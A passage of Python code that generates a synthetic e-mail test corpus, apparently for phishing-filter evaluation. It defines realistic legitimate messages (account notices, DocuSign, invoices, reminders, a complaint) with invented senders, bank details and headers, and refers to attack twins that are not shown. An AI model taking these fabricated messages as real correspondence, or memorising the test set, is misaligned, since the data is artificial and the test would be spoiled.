                   'Bitte zahlen Sie bis 30.11.2026 auf: VR Bank Rhein-Neckar eG, IBAN ' + iban_fmt(HANSEN_IBAN)],
                  'Zahlungserinnerung'),
          'application/pdf', 'Zahlungserinnerung_2026-0871.pdf'),
  ], _s, 'outlook'))

# ===========================================================================
# English business
# ===========================================================================

# --- 09 en: genuine Microsoft account security notification ------------------
_s = 'business/09'
_d = D('11-06 13:44:51', UTC).astimezone(TZ(-8))
_txt = '''Microsoft account

Security info was added

The following security info was recently added to the Microsoft account to*****@example.com:

Authenticator app

If this was you, you can safely ignore this email.

If this wasn't you, a malicious user might have access to your account. Please review your recent activity and remove the security info you don't recognise.

Review recent activity: https://account.live.com/Activity

To opt out or change where you receive security notifications, click here: https://account.live.com/SecurityNotifications/Update

Thanks,
The Microsoft account team

Privacy Statement: https://go.microsoft.com/fwlink/?LinkId=521839
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
'''
_html = '''<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<table dir="ltr"><tr><td style="padding:0;font-family:'Segoe UI Semibold','Segoe UI Bold','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:17px;color:#707070;">Microsoft account</td></tr>
<tr><td style="padding:0;font-family:'Segoe UI Light','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:41px;color:#2672ec;">Security info was added</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">The following security info was recently added to the Microsoft account <a dir="ltr" style="color:#2672ec;text-decoration:none;" href="mailto:to*****@example.com">to*****@example.com</a>:</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Authenticator app</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">If this was you, you can safely ignore this email.</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">If this wasn't you, a malicious user might have access to your account. Please <a id="i3" style="color:#2672ec;text-decoration:none;" href="https://account.live.com/Activity">review your recent activity</a> and remove the security info you don't recognise.</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">To opt out or change where you receive security notifications, <a id="i4" style="color:#2672ec;text-decoration:none;" href="https://account.live.com/SecurityNotifications/Update">click here</a>.</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Thanks,</td></tr>
<tr><td style="padding:0;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">The Microsoft account team</td></tr>
</table>
<table dir="ltr" style="padding-top:30px"><tr><td style="font-size:12px;color:#666666;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif"><a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#666666">Privacy Statement</a><br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr></table>
</body></html>
'''
M(dir='business', file='09-en-microsoft-account-security-info-added', lang='en', charset='UTF-8 (QP), multipart/alternative',
  desc='Genuine Microsoft account notification "Security info was added" (Authenticator app) for the Head of IT, who had just enrolled the app.',
  why='Real Microsoft sender domain (accountprotection.microsoft.com) from Microsoft\'s own outbound IP range, all links point to account.live.com / go.microsoft.com, masked address, no urgency; typical hard case for phishing filters.',
  mailfrom='account-security-noreply@accountprotection.microsoft.com', rcpt='tobias.wagner@example.com', date=_d,
  helo='NAM12-BN8-obe.outbound.protection.outlook.com', rdns='mail-bn8nam12on2088.outbound.protection.outlook.com', ip='40.107.237.88',
  tls='TLSv1.2', cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  received=['from CY5PR13MB6211.namprd13.prod.outlook.com (2603:10b6:930:2b::17) by\n\tBN8PR13MB2704.namprd13.prod.outlook.com with Microsoft SMTP Server\n\t(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.9412.21;\n\t%s' % fmt(plus(_d, 1, UTC))],
  frm=('Microsoft account team', 'account-security-noreply@accountprotection.microsoft.com'), to=[('', 'tobias.wagner@example.com')],
  subject='Microsoft account security info was added',
  msgid='%s.%s@BL02EPF0001A0FC' % (H(_s, 12, UPALNUM), H(_s + 'x', 13, UPALNUM)),
  body=MP('alternative', [T(_txt, cs='utf-8'), T(_html, 'html', cs='utf-8')], _s, 'bulk'))

# --- 10 en: genuine Atlassian password reset ---------------------------------
_s = 'business/10'
_d = D('11-12 09:03:27', UTC)
_tok = H(_s + 'tok', 160, B62 + '-_')
_url = 'https://id.atlassian.com/login/resetpassword?token=' + _tok + '&application=jira'
_txt = '''Hi Felix,

We received a request to reset the password for your Atlassian account (felix.schuster@examplegroup.eu).

Reset password:
%s

This link will expire in 1 hour. If you didn't request a password reset, you can safely ignore this email - your password will not change.

Cheers,
The Atlassian team

This message was sent to you by Atlassian Cloud
Atlassian Pty Ltd, Level 6, 341 George Street, Sydney NSW 2000, Australia
''' % _url
_html = ('<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>'
         '<body style="font-family:-apple-system,BlinkMacSystemFont,\'Segoe UI\',Roboto,sans-serif;color:#172B4D;font-size:14px">'
         '<div style="max-width:520px;margin:0 auto;padding:32px 24px"><img src="https://id-frontend.prod-east.frontend.public.atl-paas.net/assets/atlassian-logo.png" alt="Atlassian" height="28">'
         '<p style="margin-top:28px">Hi Felix,</p><p>We received a request to reset the password for your Atlassian account (felix.schuster@examplegroup.eu).</p>'
         '<p style="padding:12px 0"><a href="%s" style="background:#0052CC;color:#ffffff;padding:10px 16px;border-radius:3px;text-decoration:none;font-weight:500">Reset password</a></p>'
         '<p>This link will expire in 1 hour. If you didn\'t request a password reset, you can safely ignore this email &ndash; your password will not change.</p>'
         '<p>Cheers,<br>The Atlassian team</p><hr style="border:0;border-top:1px solid #DFE1E6;margin:28px 0">'
         '<p style="font-size:12px;color:#6B778C">This message was sent to you by Atlassian Cloud<br>Atlassian Pty Ltd, Level 6, 341 George Street, Sydney NSW 2000, Australia</p>'
         '</div></body></html>\n' % _url)
M(dir='business', file='10-en-atlassian-password-reset', lang='en', charset='UTF-8 (QP), multipart/alternative',
  desc='Genuine Atlassian password-reset e-mail requested by the IT administrator for the company Jira (examplegroup.eu address).',
  why='Real Atlassian sender via Amazon SES (Atlassian\'s actual provider), reset link on id.atlassian.com, 1-hour expiry, "ignore if you didn\'t request"; password resets look like phishing but must be delivered.',
  mailfrom='01000193%s-%s-000000@amazonses.com' % (H(_s, 8), H(_s + 'r', 27)), rcpt='felix.schuster@examplegroup.eu', date=_d,
  helo='a48-110.smtp-out.amazonses.com', rdns='a48-110.smtp-out.amazonses.com', ip='54.240.48.110', tls='TLSv1.3',
  frm=('Atlassian', 'noreply@id.atlassian.com'), to=[('', 'felix.schuster@examplegroup.eu')],
  subject='Reset your Atlassian password',
  msgid='01000193%s-%s-000000@email.amazonses.com' % (H(_s, 8), H(_s + 'r', 27)),
  extra=[('Feedback-ID', '1.us-east-1.%s=:AmazonSES' % H(_s + 'f', 43, B62 + '+/')), ('X-SES-Outgoing', '2026.11.12-54.240.48.110')],
  body=MP('alternative', [T(_txt, cs='UTF-8', quote_cs=False), T(_html, 'html', cs='UTF-8', quote_cs=False)], _s, 'bulk'))

# --- 11 en: genuine DocuSign envelope from a customer ------------------------
_s = 'business/11'
_d = D('11-17 10:26:31', UTC)
_g = lambda x: '%s-%s-%s-%s-%s' % (H(_s + x, 8), H(_s + x + '1', 4), H(_s + x + '2', 4), H(_s + x + '3', 4), H(_s + x + '4', 12))
_url = 'https://eu.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s' % (_g('a'), _g('b'), _g('c'))
_code = H(_s + 'code', 32, UPHEX) + '2'
_txt = '''Rachel Hughes sent you a document to review and sign.

REVIEW DOCUMENT
%s

Rachel Hughes
rachel.hughes@northgate-rp.co.uk

Hi James,

As agreed at Tuesday's progress meeting, please find Variation Order VO-017 (additional fire-rated glazing to the Unit 4 shopfront) for signature. Once countersigned we'll release it with the November valuation.

Thanks,
Rachel

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code:
%s

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding. Whether you're in an office, at home, on-the-go -- or even across the globe -- Docusign provides a professional trusted solution for Digital Transaction Management.

Questions about the Document?
If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.

This message was sent to you by Rachel Hughes who is using the Docusign Electronic Signature Service.
''' % (_url, _code)
_html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#eaeaea">'
         '<table width="100%%" role="presentation"><tr><td align="center" style="padding:24px 0"><table width="640" role="presentation" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif">'
         '<tr><td style="padding:20px 24px"><img src="https://eu.docusign.net/Member/Images/email/docusign-logo.png" alt="Docusign" width="116"></td></tr>'
         '<tr><td style="background:#1e4ca1;padding:36px 24px;text-align:center;color:#ffffff;font-size:16px">Rachel Hughes sent you a document to review and sign.<br><br>'
         '<a href="%s" style="background:#ffc423;color:#333333;font-weight:bold;text-decoration:none;padding:12px 28px;display:inline-block;font-size:14px">REVIEW DOCUMENT</a></td></tr>'
         '<tr><td style="padding:24px;font-size:15px;color:#333333;line-height:22px"><b>Rachel Hughes</b><br>rachel.hughes@northgate-rp.co.uk<br><br>Hi James,<br><br>'
         'As agreed at Tuesday\'s progress meeting, please find Variation Order VO-017 (additional fire-rated glazing to the Unit 4 shopfront) for signature. Once countersigned we\'ll release it with the November valuation.<br><br>Thanks,<br>Rachel</td></tr>'
         '<tr><td style="padding:24px;background:#eaeaea;font-size:11px;color:#666666"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>'
         '<b>Alternate Signing Method</b><br>Visit Docusign.com, click \'Access Documents\', and enter the security code: %s<br><br>'
         '<b>Questions about the Document?</b><br>If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.<br><br>'
         'This message was sent to you by Rachel Hughes who is using the Docusign Electronic Signature Service.</td></tr></table></td></tr></table></body></html>\n' % (_url, _code))
M(dir='business', file='11-en-docusign-variation-order-genuine', lang='en', charset='UTF-8 (QP), multipart/alternative',
  desc='Genuine DocuSign envelope from the client Northgate Retail Properties: Variation Order VO-017 for signature.',
  why='Sent by DocuSign\'s EU platform (eumail.docusign.net, DocuSign IP range), link on eu.docusign.net, Reply-To is the real client contact, content matches an ongoing project; hard twin of attack/09.',
  mailfrom='dse_eu@eumail.docusign.net', rcpt='james.whitfield@example.com', date=_d,
  helo='mailfra2.eumail.docusign.net', rdns='mailfra2.eumail.docusign.net', ip='185.81.100.42', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  received=['from docusign.net ([127.0.0.1]) by mailfra2.eumail.docusign.net with Microsoft SMTPSVC(10.0.17763.1697);\n\t %s' % fmt(_d)],
  frm=('Rachel Hughes via Docusign', 'dse_eu@eumail.docusign.net'), to=ST('whitfield'),
  reply_to=('Rachel Hughes', 'rachel.hughes@northgate-rp.co.uk'),
  subject='Please DocuSign: Northgate Phase 3 - Variation Order VO-017.pdf',
  msgid='%s@eumail.docusign.net' % H(_s, 32),
  body=MP('alternative', [T(_txt, cs='utf-8'), T(_html, 'html', cs='utf-8')], _s, 'bulk'))

# --- 12 en: genuine subcontractor invoice + statement ----------------------
_s = 'business/12'
_d = D('11-10 15:21:09', GMT)
_txt = f'''Good afternoon Sarah,

Please find attached invoice HS-24903 (Castlefield - additional lift and adaptations to the south elevation, week ending 6 November) together with your statement as at 10 November 2026.

Balance outstanding: GBP 41,206.90, of which GBP 4,788.70 (HS-24655) is now overdue.

Please note these invoices are subject to the VAT domestic reverse charge for construction services and CIS deduction as per your verification.

Our bank details are unchanged:
Barclays Bank PLC, sort code 20-55-41, account 63829174
IBAN {iban_fmt(HARROW_IBAN)}

Kind regards,

Donna Pearce
Credit Control
Harrow Scaffolding Ltd
Unit 9, Westinghouse Road, Trafford Park, Manchester M17 1AE
T 0161 496 0200
'''
M(dir='business', file='12-en-scaffolding-invoice-and-statement', lang='en', charset='UTF-8 (QP) + 2 PDF',
  desc='Harrow Scaffolding credit control sends invoice HS-24903 and the October/November statement with the known Barclays details.',
  why='Known subcontractor, genuine domain/tenant, bank details match those on file (%s), CIS/reverse-charge wording as on real UK construction invoices; contrast attack/15 from the same tenant.' % iban_fmt(HARROW_IBAN),
  infra=m365_infra(_s, _d, 'sarah.collins@example.com', 'AS8PR05MB8815'),
  mailfrom='accounts@harrowscaffolding.co.uk', rcpt='sarah.collins@example.com', date=_d,
  frm=('Harrow Scaffolding Accounts', 'accounts@harrowscaffolding.co.uk'), to=ST('collins'),
  cc=[('Mark Davies', 'mark.davies@harrowscaffolding.co.uk')],
  subject='Invoice HS-24903 and statement - Example Group UK Ltd',
  extra=[('Thread-Topic', 'Invoice HS-24903 and statement - Example Group UK Ltd'), ('Thread-Index', thread_index(_s)),
         ('Content-Language', 'en-GB'), ('X-MS-Has-Attach', 'yes')],
  body=MP('mixed', [
      MP('alternative', [T(_txt, cs='utf-8'), T(outlook_html(_txt, 'utf-8', 'EN-GB'), 'html', cs='utf-8')], _s + 'a', 'outlook'),
      ATT(pdf_doc(['#HARROW SCAFFOLDING LTD - INVOICE HS-24903', 'Date 09/11/2026   Customer: Example Group UK Ltd   Site: Castlefield', '',
                   'Additional lift and adaptations, south elevation, w/e 06/11/2026      GBP 13,410.00',
                   'VAT: domestic reverse charge - customer to account to HMRC for VAT', 'CIS deduction applies as per verification', '',
                   'Barclays Bank PLC  20-55-41  63829174'], 'HS-24903'),
          'application/pdf', 'HS-24903.pdf'),
      ATT(pdf_doc(['#Statement - Example Group UK Ltd', 'As at 10/11/2026', '',
                   'HS-24655  15/09/2026  GBP  4,788.70  OVERDUE', 'HS-24871  19/10/2026  GBP 23,008.20',
                   'HS-24903  09/11/2026  GBP 13,410.00', '', 'Balance GBP 41,206.90'], 'Statement'),
          'application/pdf', 'Statement_EXAMPLEGRP_20261110.pdf'),
  ], _s, 'outlook'))

# --- 13 en: subscribed newsletter via Mailchimp ----------------------------
_s = 'business/13'
_d = D('11-27 06:30:12', GMT)
_items = [
    ('Contractor order books lengthen as commercial starts recover', 'Main contractors report the strongest pipeline since 2023, driven by logistics and data-centre work in the North West.'),
    ('Building Safety Regulator: gateway 2 backlog falls below 400 schemes', 'Average determination times for higher-risk buildings are still above the 12-week statutory target.'),
    ('Steel prices ease for third consecutive month', 'Rebar and sections are down 2-3 per cent on October, according to the latest BCIS figures.'),
]
_u = lambda i: 'https://siteandstructure.us14.list-manage.com/track/click?u=%s&id=%s&e=%s' % (H(_s + 'u', 25), H(_s + str(i), 10), H(_s + 'e', 10))
_txt = 'SITE & STRUCTURE WEEKLY - 27 November 2026\n\n' + '\n\n'.join('%s\n%s\nRead more: %s' % (t, b, _u(i)) for i, (t, b) in enumerate(_items)) + '''

You are receiving this email because you subscribed at siteandstructure.co.uk.
Unsubscribe: https://siteandstructure.us14.list-manage.com/unsubscribe?u=%s&id=%s
Site & Structure Media Ltd, 3 Hardman Street, Manchester M3 3HF, United Kingdom
''' % (H(_s + 'u', 25), H(_s + 'l', 10))
_html = ('<!doctype html><html><head><meta charset="UTF-8"><title>Site &amp; Structure Weekly</title></head><body style="margin:0;background:#f4f4f4">'
         '<center><table width="600" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif;color:#202020">'
         '<tr><td style="background:#1d3557;color:#ffffff;padding:20px;font-size:24px;font-weight:bold">SITE &amp; STRUCTURE <span style="color:#e63946">WEEKLY</span></td></tr>'
         + ''.join('<tr><td style="padding:18px 20px;border-bottom:1px solid #eee"><h3 style="margin:0 0 6px 0">%s</h3><p style="margin:0;font-size:14px;line-height:21px">%s <a href="%s">Read more</a></p></td></tr>'
                   % (_html_esc(t), _html_esc(b), _u(i)) for i, (t, b) in enumerate(_items))
         + '<tr><td style="padding:16px 20px;font-size:11px;color:#666">You are receiving this email because you subscribed at siteandstructure.co.uk.<br>'
           '<a href="https://siteandstructure.us14.list-manage.com/unsubscribe?u=%s&amp;id=%s">Unsubscribe</a> &middot; Site &amp; Structure Media Ltd, 3 Hardman Street, Manchester M3 3HF</td></tr></table></center>'
           '<img src="https://siteandstructure.us14.list-manage.com/track/open.php?u=%s&amp;id=%s&amp;e=%s" height="1" width="1" alt=""></body></html>\n'
         % (H(_s + 'u', 25), H(_s + 'l', 10), H(_s + 'u', 25), H(_s + 'o', 10), H(_s + 'e', 10)))
M(dir='business', file='13-en-newsletter-site-and-structure', lang='en', charset='UTF-8 (QP), multipart/alternative',
  desc='Subscribed UK construction news digest sent through Mailchimp.',
  why='Opt-in bulk mail from Mailchimp infrastructure with List-Unsubscribe, list-manage tracking links and pixel; editorial content only.',
  mailfrom='bounce-mc.us14_%d.%d-andreas.roth=example.com@mail151.atl221.mcdlv.net' % (HN(_s, 10 ** 7, 10 ** 8), HN(_s + 'x', 10 ** 5, 10 ** 6)),
  rcpt='andreas.roth@example.com', date=_d,
  helo='mail151.atl221.mcdlv.net', rdns='mail151.atl221.mcdlv.net', ip='198.2.139.151', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES128-GCM-SHA256 (128/128 bits)',
  frm=('Site & Structure Weekly', 'news@siteandstructure.co.uk'), to=[('Andreas', 'andreas.roth@example.com')],
  subject='Order books lengthen, BSR backlog, steel prices ease',
  msgid='%s.%s@mail151.atl221.mcdlv.net' % (H(_s, 20), H(_s + 'm', 6)),
  extra=[('List-Unsubscribe', '<https://siteandstructure.us14.list-manage.com/unsubscribe?u=%s&id=%s&t=b&e=%s&c=%s>' % (H(_s + 'u', 25), H(_s + 'l', 10), H(_s + 'e', 10), H(_s + 'c', 10))),
         ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'), ('X-Mailer', 'Mailchimp Mailer - **CID%s**' % H(_s + 'cid', 20)),
         ('X-Campaign', 'mailchimp%s.%s' % (H(_s + 'u', 25), H(_s + 'c', 10))), ('Precedence', 'bulk')],
  body=MP('alternative', [T(_txt, cs='utf-8', quote_cs=False), T(_html, 'html', cs='utf-8', quote_cs=False)], _s, 'bulk'))

# --- 14 en: customer complaint ---------------------------------------------
_s = 'business/14'
_d = D('11-25 08:12:44', GMT)
_txt = '''James,

Further to my emails of 12 and 19 November, water is again coming through the roof-light upstands in Unit 4 after last night's rain. The tenant's fit-out contractor has had to stop work on the shop floor for the second time this month and they have now put us on notice of a delay claim.

This is not acceptable three weeks before the tenant's opening. I need the following from Example Group:

1. A roofer on site tomorrow morning (26/11) to make the upstands watertight.
2. A written root-cause report and permanent repair proposal by Friday 28/11.
3. Written confirmation that Example Group will meet the tenant's costs arising from the leaks.

We are formally notifying this as a defect under the contract. If it is not resolved by 4 December we will instruct another contractor and contra-charge the cost, and we will be reviewing your involvement in Phase 4.

I'm genuinely disappointed - the project had been going well until the roof package.

Rachel

Rachel Hughes
Development Manager
Northgate Retail Properties Ltd
M 07700 900218
'''
M(dir='business', file='14-en-customer-complaint-water-ingress', lang='en', charset='UTF-8 (QP), multipart/alternative',
  desc='Client complaint: Northgate Retail Properties formally notifies roof leaks in Unit 4, demands a roofer next day, a report and cost cover, threatens contra-charges.',
  why='Known client, own M365 tenant, angry and urgent but no payment instruction or link; exactly the kind of mail that must not be lost in quarantine.',
  infra=m365_infra(_s, _d, 'james.whitfield@example.com', 'LO2P123MB5581'),
  mailfrom='rachel.hughes@northgate-rp.co.uk', rcpt='james.whitfield@example.com', date=_d,
  frm=('Rachel Hughes', 'rachel.hughes@northgate-rp.co.uk'), to=ST('whitfield'),
  subject='Unit 4 water ingress - formal notice',
  extra=[('Thread-Topic', 'Unit 4 water ingress - formal notice'), ('Thread-Index', thread_index(_s)),
         ('Importance', 'high'), ('Content-Language', 'en-GB')],
  body=MP('alternative', [T(_txt, cs='utf-8'), T(outlook_html(_txt, 'utf-8', 'EN-GB'), 'html', cs='utf-8')], _s, 'outlook'))

# --- 15 en: internal urgent genuine payment -------------------------------
_s = 'business/15'
_d = D('11-27 09:03:51', GMT)
_txt = '''Sarah,

Mark Davies rang me this morning - Harrow are threatening to strike the scaffold at Castlefield on Monday if HS-24871 isn't paid. I've approved it in the system.

Can you push it through today as a same-day Faster Payment please? Use the Barclays details we've always had on file. If anyone sends you "new bank details" for Harrow, ignore it and ring Mark on his mobile first - Katrin warned us there's a lot of that going around.

Thanks,
James

James Whitfield
Managing Director
Example Group UK Ltd
'''
M(dir='business', file='15-en-internal-urgent-supplier-payment', lang='en', charset='UTF-8 (QP), multipart/alternative',
  desc='Internal: UK MD asks the office manager to make a same-day payment to the scaffolding subcontractor using the bank details on file.',
  why='Internal mail via mail-int01 from the real MD, approval in the system, explicitly warns against changed bank details; urgent payment language but legitimate.',
  infra=INTERNAL_RELAY(_d, _s), mailfrom='james.whitfield@example.com', rcpt='sarah.collins@example.com', date=_d,
  frm=('James Whitfield', 'james.whitfield@example.com'), to=ST('collins'),
  subject='Harrow - please pay HS-24871 today',
  msgid=exch_mid(_s, 'example.com'),
  extra=[('Thread-Topic', 'Harrow - please pay HS-24871 today'), ('Thread-Index', thread_index(_s)),
         ('Importance', 'high'), ('Content-Language', 'en-GB'), ('X-MS-Has-Attach', ''), ('x-originating-ip', '[10.60.2.44]')],
  body=MP('alternative', [T(_txt, cs='utf-8'), T(outlook_html(_txt, 'utf-8', 'EN-GB'), 'html', cs='utf-8')], _s, 'outlook'))

# --- 16 en: Companies House reminder via GOV.UK Notify ---------------------
_s = 'business/16'
_d = D('11-16 07:12:40', GMT)
M(dir='business', file='16-en-companies-house-confirmation-statement-reminder', lang='en', charset='UTF-8 (QP)',
  desc='Companies House e-mail reminder (sent through GOV.UK Notify) that the UK company\'s confirmation statement is due by 14 December 2026.',
  why='Genuine government notification service (notifications.service.gov.uk on Amazon SES), link to the real find-and-update.company-information.service.gov.uk; deadline and "offence" wording are standard.',
  mailfrom='%s@notifications.service.gov.uk' % H(_s + 'rp', 36), rcpt='sarah.collins@example.com', date=_d,
  helo='a10-35.smtp-out.eu-west-2.amazonses.com', rdns='a10-35.smtp-out.eu-west-2.amazonses.com', ip='54.240.10.35', tls='TLSv1.3',
  frm=('Companies House', 'companies.house@notifications.service.gov.uk'), to=[('', 'sarah.collins@example.com')],
  subject='Confirmation statement reminder: EXAMPLE GROUP UK LIMITED (09876543)',
  msgid='0102019330%s-%s-000000@eu-west-2.amazonses.com' % (H(_s, 6), H(_s + 'r', 27)),
  extra=[('Feedback-ID', '::1.eu-west-2.%s=:AmazonSES' % H(_s + 'f', 43, B62 + '+/')), ('X-SES-Outgoing', '2026.11.16-54.240.10.35')],
  body=T('''Dear Sir or Madam,

This is a reminder that the confirmation statement for EXAMPLE GROUP UK LIMITED (company number 09876543) must be delivered to Companies House by 14 December 2026.

The confirmation statement confirms that the information we hold about the company is up to date. You must file at least once every 12 months, even if nothing has changed. The fee is £50 when you file online.

File the confirmation statement online:
https://find-and-update.company-information.service.gov.uk/company/09876543/confirmation-statement

If you have already filed, you do not need to do anything.

It is a criminal offence not to deliver a confirmation statement, and the company and its officers may be prosecuted.

Companies House

You're receiving this email because you signed up to get email reminders for this company. You can stop these reminders by signing in to your Companies House account.
''', cs='UTF-8', quote_cs=False))

# ===========================================================================
# Italian business
# ===========================================================================
FERR_PIVA = it_piva('0291746016')

# --- 17 it: Ferretti invoice (courtesy copy, Aruba SMTP) ---------------------
_s = 'business/17'
_d = D('11-12 16:05:22')
M(dir='business', file='17-it-ferretti-fattura-copia-cortesia', lang='it', charset='ISO-8859-1 (QP) + PDF',
  desc='Ferretti Trasporti administration sends the courtesy copy of invoice 1163/2026 (special transports of precast beams); the original went through SdI.',
  why='Known supplier, genuine domain ferretti-trasporti.it via Aruba SMTP (typical Italian SME), known Intesa Sanpaolo IBAN %s, reference to SdI and delivery notes (DDT).' % iban_fmt(FERR_IBAN),
  mailfrom='amministrazione@ferretti-trasporti.it', rcpt='marco.bianchi@example.com', date=_d,
  helo='smtpdh16-2.aruba.it', rdns='smtpdh16-2.aruba.it', ip='62.149.155.162', tls='TLSv1.3',
  received=['from PC-AMMIN02 ([93.44.172.19])\n\tby Aruba Outgoing Smtp  with ESMTPSA\n\tid 4kX2pQz9aBcD1vWx; %s' % fmt(plus(_d, 1))],
  frm=('Ferretti Trasporti - Amministrazione', 'amministrazione@ferretti-trasporti.it'), to=ST('bianchi'),
  subject='Fattura n. 1163/2026 del 12/11/2026 - copia di cortesia', hcs='ISO-8859-1',
  msgid='000c01dc53f1$%s$%s@ferretti-trasporti.it' % (H(_s, 8), H(_s + 'b', 8)),
  extra=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Thread-Index', thread_index(_s)), ('Content-Language', 'it')],
  body=MP('mixed', [
      T(f'''Spett.le Example Group Italia S.r.l.,

in allegato trasmettiamo copia di cortesia della fattura n. 1163/2026 del 12/11/2026, relativa ai trasporti eccezionali di elementi prefabbricati per il cantiere di Milano - Via Ripamonti 118 (DDT dal 02/11 al 10/11).

Imponibile:        EUR 9.870,00
IVA 22%:           EUR 2.171,40
Totale documento:  EUR 12.041,40
Scadenza:          30/11/2026
Pagamento:         bonifico bancario - Intesa Sanpaolo S.p.A., IBAN {iban_fmt(FERR_IBAN)}

L'originale in formato elettronico è stato trasmesso tramite il Sistema di Interscambio (SdI) al Vostro codice destinatario; il presente documento non ha valenza fiscale.

Cordiali saluti

Amministrazione
Ferretti Trasporti S.p.A.
Via dell'Industria 27 - 24040 Stezzano (BG)
P.IVA {FERR_PIVA} - Tel. +39 035 419 2200
''', cs='ISO-8859-1'),
      ATT(pdf_doc(['#FERRETTI TRASPORTI S.p.A.', "Via dell'Industria 27 - 24040 Stezzano (BG) - P.IVA " + FERR_PIVA, '',
                   'Fattura n. 1163/2026 del 12/11/2026 - COPIA DI CORTESIA', 'Cliente: Example Group Italia S.r.l. - P.IVA ' + EG_PIVA, '',
                   'Trasporti eccezionali travi prefabbricate, cantiere Via Ripamonti 118', 'DDT 2026/3311 - 2026/3342', '',
                   'Imponibile 9.870,00  IVA 22% 2.171,40  Totale EUR 12.041,40', 'Scadenza 30/11/2026 - IBAN ' + iban_fmt(FERR_IBAN)],
                  'Fattura 1163/2026', producer='TeamSystem'),
          'application/pdf', 'Fattura_1163_2026.pdf'),
  ], _s, 'outlook'))

# --- 18 it: Ferretti genuine urgent payment reminder ------------------------
_s = 'business/18'
_d = D('12-01 09:37:10')
_txt = f'''Buongiorno Dott. Bianchi,

mi permetto di sollecitare il pagamento delle fatture n. 1027/2026 (EUR 8.412,60, scaduta il 30/09) e n. 1089/2026 (EUR 14.905,20, scaduta il 31/10), per le quali non risulta ancora alcun accredito.

Purtroppo la nostra direzione mi comunica che, in assenza del pagamento entro venerdì 4 dicembre, non sarà possibile programmare i trasporti eccezionali previsti la settimana successiva per il cantiere di Via Ripamonti (travi prefabbricate, 6 viaggi con scorta tecnica).

Le coordinate bancarie sono quelle di sempre: Intesa Sanpaolo, IBAN {iban_fmt(FERR_IBAN)}.

Se il pagamento è già stato disposto, Le sarei grata se potesse inviarmi la contabile, così la giro subito in amministrazione. Per qualsiasi chiarimento mi trova al numero diretto.

Cordiali saluti

Chiara Colombo
Ufficio Commerciale
Ferretti Trasporti S.p.A.
Tel. +39 035 419 2270 - Cell. +39 347 118 2290
'''
M(dir='business', file='18-it-ferretti-sollecito-pagamento-urgente', lang='it', charset='UTF-8 (QP), multipart/alternative',
  desc='Genuine urgent reminder from Chiara Colombo: two overdue invoices, transports will not be scheduled unless paid by Friday; bank details "quelle di sempre".',
  why='Genuine domain via Aruba SMTP, known contact, known IBAN, copies the Italian country manager and her own administration; pressure is commercial, not a redirection.',
  mailfrom='c.colombo@ferretti-trasporti.it', rcpt='marco.bianchi@example.com', date=_d,
  helo='smtpdh17-1.aruba.it', rdns='smtpdh17-1.aruba.it', ip='62.149.155.171', tls='TLSv1.3',
  received=['from NB-COLOMBO ([93.44.172.19])\n\tby Aruba Outgoing Smtp  with ESMTPSA\n\tid 5pRt7Yb2cQeF0uKm; %s' % fmt(plus(_d, 1))],
  frm=('Chiara Colombo', 'c.colombo@ferretti-trasporti.it'), to=ST('bianchi'),
  cc=ST('ricci') + [('Ferretti Trasporti - Amministrazione', 'amministrazione@ferretti-trasporti.it')],
  subject='Sollecito pagamento fatture scadute - Ferretti Trasporti',
  msgid='001201dc6285$%s$%s@ferretti-trasporti.it' % (H(_s, 8), H(_s + 'b', 8)),
  extra=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Thread-Index', thread_index(_s)), ('Content-Language', 'it'), ('Importance', 'High')],
  body=MP('alternative', [T(_txt, cs='utf-8'), T(outlook_html(_txt, 'utf-8', 'IT'), 'html', cs='utf-8')], _s, 'std'))

# --- 19 it: subscribed newsletter (MailUp) ---------------------------------
_s = 'business/19'
_d = D('11-19 08:00:07')
_lk = lambda i: 'https://a8b2c.emailsp.com/f/rnl.aspx/?%s=%s' % (H(_s + 'k', 6, B62), H(_s + str(i), 30, B62))
_items = [('Correttivo al Codice dei contratti: cosa cambia per le imprese', 'Revisione prezzi, subappalto a cascata e qualificazione: la guida alle novità in vigore dal 2027.'),
